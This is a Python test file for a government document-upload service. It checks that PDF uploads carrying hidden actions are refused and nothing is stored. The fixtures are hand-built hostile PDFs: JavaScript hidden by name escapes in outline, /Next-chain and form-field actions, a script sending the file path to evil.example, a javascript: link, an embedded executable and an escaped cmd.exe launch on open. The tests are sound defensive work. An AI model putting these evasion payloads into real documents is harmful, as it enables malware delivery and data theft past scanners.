"""Uploaded PDFs are parsed and every action in them walked (issue 12, defect 8): JavaScript written with
name escapes, hidden in a /Next chain, in an outline item or in a form field's additional actions, and
embedded files are refused, and nothing is stored; a document with plain links is accepted."""

from __future__ import annotations

from datetime import date

import pytest
from docskit import CUONG, citizen, holder, new_citizen
from sqlalchemy import func, select

from dgov.documents import DocumentsContext, store_issued, template, upload
from dgov.documents.models import blobs, documents, wallet
from dgov.documents.uploads import detect
from dgov.identity import SYSTEM
from dgov.kernel.errors import ValidationFailed
from dgov.web.runtime import Runtime

LIMIT = 1024 * 1024
# `/J#61vaScript` is `/JavaScript` and `/J#53` is `/JS` to a PDF reader; a byte pattern sees neither.
JS_ACTION = b"<< /S /J#61vaScript /J#53 (app.launchURL\\('https://evil.example/'+this.path\\)) >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A "
PAGE_WITH_LINK = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"


def raw_pdf(*objects: bytes, catalog: bytes = b"", page: bytes = PAGE) -> bytes:
    """A small PDF written byte by byte (object 1 the catalog, 2 the page tree, 3 the page, then
    `objects` from 4 on), with a correct cross-reference table, as a hostile tool would write it."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


HOSTILE = {
    # Name escapes, in an outline item's action (no annotation, no catalog action).
    "escaped-javascript-in-outline": raw_pdf(
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Trang 1) /Parent 4 0 R /A " + JS_ACTION + b" >>",
        catalog=b"/Outlines 4 0 R",
    ),
    # A harmless first action whose /Next chain (here an array) runs a script.
    "javascript-in-next-chain": raw_pdf(
        LINK + b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >> >>",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next " + JS_ACTION + b" >>",
        page=PAGE_WITH_LINK,
    ),
    # A keystroke script on a form field's kid, reachable only through the AcroForm field tree.
    "javascript-in-field-aa": raw_pdf(
        b"<< /Fields [5 0 R] >>",
        b"<< /FT /Tx /T (ho_ten) /Kids [6 0 R] >>",
        b"<< /Type /Annot /Subtype /Widget /Parent 5 0 R /Rect [0 0 100 20] /A#41 << /K "
        + JS_ACTION
        + b" >> >>",
        catalog=b"/AcroForm 4 0 R",
    ),
    # A program carried inside the document.
    "embedded-file": raw_pdf(
        b"<< /EmbeddedFiles << /Names [(hoa-don.exe) 5 0 R] >> >>",
        b"<< /Type /Filespec /F (hoa-don.exe) /E#46 << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        catalog=b"/Names 4 0 R",
    ),
    # A link whose address is code, and a Launch action behind an escaped name.
    "javascript-uri": raw_pdf(
        LINK + b"<< /S /URI /URI (javascript:alert\\(1\\)) >> >>",
        page=PAGE_WITH_LINK,
    ),
    "escaped-launch-on-open": raw_pdf(b"<< /S /L#61unch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"),
}


async def _counts(docs: DocumentsContext) -> tuple[int, ...]:
    async with docs.db.uow(readonly=True) as uow:
        n = [
            int(await uow.session.scalar(select(func.count()).select_from(t)) or 0)
            for t in (blobs, documents, wallet)
        ]
    root = docs.settings.files_dir / "blobs"
    return (*n, sum(1 for p in root.rglob("*") if p.is_file()) if root.exists() else 0)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_hostile_pdf_is_refused(name: str) -> None:
    with pytest.raises(ValidationFailed) as info:
        detect(HOSTILE[name], filename="giay-to.pdf", declared_type="application/pdf", max_bytes=LIMIT)
    [err] = info.value.errors
    assert err.loc == ("file",) and "scripts" in err.message


async def test_hostile_pdfs_leave_nothing_stored(docs: DocumentsContext, runtime: Runtime) -> None:
    cuong = await new_citizen(runtime, CUONG, "Lê Văn Cường", date(1985, 11, 2))
    before = await _counts(docs)
    for name, data in HOSTILE.items():
        with pytest.raises(ValidationFailed):
            await upload(docs, citizen(cuong.id), holder=holder(cuong), data=data, filename=f"{name}.pdf")
    assert await _counts(docs) == before


async def test_links_and_a_signed_certificate_are_accepted(docs: DocumentsContext) -> None:
    linked = raw_pdf(
        LINK + b"<< /S /URI /URI (https://dichvucong.gov.vn/) >> >>",
        catalog=b"/OpenAction [3 0 R /Fit]",
        page=PAGE_WITH_LINK,
    )
    assert (
        detect(linked, filename="a.pdf", declared_type=None, max_bytes=LIMIT).media_type == "application/pdf"
    )
    t = template("birth-certificate")
    issued = await store_issued(docs, SYSTEM, template_name=t.name, data=t.example, holders=[CUONG])
    assert (
        detect(issued.pdf, filename="kq.pdf", declared_type=None, max_bytes=LIMIT).media_type
        == "application/pdf"
    )
